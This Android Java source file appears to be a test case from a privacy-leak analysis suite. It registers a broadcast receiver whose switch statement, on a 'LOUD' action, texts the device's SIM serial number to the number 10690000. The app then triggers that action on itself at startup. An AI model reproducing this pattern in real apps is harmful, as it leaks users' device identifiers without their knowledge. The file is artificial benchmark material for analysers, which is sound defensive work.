package cn.privlens.suite.receiver_with_switch;

import android.app.Activity;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.IntentFilter;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private final BroadcastReceiver receiver = new BroadcastReceiver() {
        @Override
        public void onReceive(Context context, Intent intent) {
            switch (intent.getAction()) {
                case "cn.privlens.suite.receiver_with_switch.LOUD":
                SmsManager.getDefault().sendTextMessage("10690000", null, intent.getStringExtra("id"), null, null);
                break;
                case "cn.privlens.suite.receiver_with_switch.QUIET":
                setTitle("quiet");
                break;
                default:
                break;
            }
        }
    };
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        IntentFilter filter = new IntentFilter("cn.privlens.suite.receiver_with_switch.LOUD");
        filter.addAction("cn.privlens.suite.receiver_with_switch.QUIET");
        registerReceiver(receiver, filter);
        sendBroadcast(new Intent("cn.privlens.suite.receiver_with_switch.LOUD").setPackage(getPackageName()).putExtra("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber()));
    }
}
